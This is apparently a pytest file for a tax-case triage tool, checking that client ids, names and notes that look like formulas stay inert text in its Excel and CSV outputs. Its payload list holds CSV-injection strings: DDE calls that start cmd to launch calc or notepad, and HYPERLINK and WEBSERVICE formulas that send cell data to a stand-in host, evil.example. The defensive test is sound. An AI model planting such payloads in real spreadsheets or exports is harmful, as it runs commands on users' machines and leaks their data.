"""No live formula from client text, anywhere (issue #23, OWASP "CSV injection"): client ids, names and
notes that begin like a formula or a DDE call stay text in the CSV, in every sheet of the portfolio
workbook (the Summary's Top 10 was written through xlsxwriter, which made them formulas) and in a client
workbook refreshed in place."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl
import polars as pl

from acsxl.cli import main
from acsxl.portfolio.sheets import NAMES

# From OWASP's CSV injection page and its payload lists: formulas, DDE, leading tab and carriage return.
PAYLOADS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '=WEBSERVICE("http://evil.example/")', "=1+1;=2+2", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "+cmd|' /C notepad'!A0",
]
EVIL = re.compile(r"evil|calc|notepad|1\+1|DDE|cmd", re.IGNORECASE)


def _cases(path: Path) -> None:
    """One case per payload, the payload as client id, name and notes; balances large enough for the Top 10."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Cases"
    ws.append(["client_id", "client_name", "form", "tax_period", "balance", "last_notice", "notice_date", "notes"])
    for i, payload in enumerate(PAYLOADS):
        ws.append([payload, payload, "1040", "2023", 90000 + i, "LT11", "2026-11-02", payload])
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # text, as a user typed it with a leading apostrophe
    wb.save(path)


def _formulas(book: Path) -> list[str]:
    """Every formula in every worksheet of ``book``."""
    with zipfile.ZipFile(book) as z:
        return [f for name in z.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")
                for f in re.findall(r"<f[^>]*>([^<]*)</f>", z.read(name).decode("utf-8"))]


def test_no_payload_becomes_a_formula_in_any_output(tmp_path: Path) -> None:
    cases = tmp_path / "cases.xlsx"
    _cases(cases)
    xlsx, csv, raw = tmp_path / "p.xlsx", tmp_path / "p.csv", tmp_path / "raw.csv"
    for out, extra in ((xlsx, []), (csv, []), (raw, ["--csv-raw"])):
        assert main(["triage", str(cases), "--as-of", "2026-11-23", "--out", str(out), "-q", *extra]) == 0

    assert not [f for f in _formulas(xlsx) if EVIL.search(f)]
    shown = openpyxl.load_workbook(xlsx)
    for sheet in NAMES:
        assert not [c.coordinate for row in shown[sheet].iter_rows() for c in row if c.data_type == "f" and EVIL.search(str(c.value))], sheet
    top = [c.value for row in shown["Summary"].iter_rows() for c in row if isinstance(c.value, str) and EVIL.search(c.value)]
    assert top, "the Summary shows the payload ids as text"

    # CSV: a leading ' before every cell a spreadsheet would run; --csv-raw keeps the text as triaged.
    text = pl.read_csv(csv, infer_schema=False)
    for column in ("client_id", "client_name", "notes"):
        assert all(not re.match(r"[=+\-@\t\r]", v) for v in text[column]), column
        assert sorted(v[1:] for v in text[column]) == sorted(p.strip() for p in PAYLOADS)
    assert sorted(pl.read_csv(raw, infer_schema=False)["client_id"]) == sorted(p.strip() for p in PAYLOADS)


def test_no_payload_becomes_a_formula_in_a_workbook_refreshed_in_place(tmp_path: Path) -> None:
    book = tmp_path / "client.xlsx"
    _cases(book)
    assert main(["refresh", str(book), "--as-of", "2026-11-23", "-q"]) == 0
    assert not [f for f in _formulas(book) if EVIL.search(f)]
    refreshed = openpyxl.load_workbook(book)
    assert "Portfolio" in refreshed.sheetnames
    for sheet in refreshed.worksheets:
        assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f" and EVIL.search(str(c.value))], sheet.title
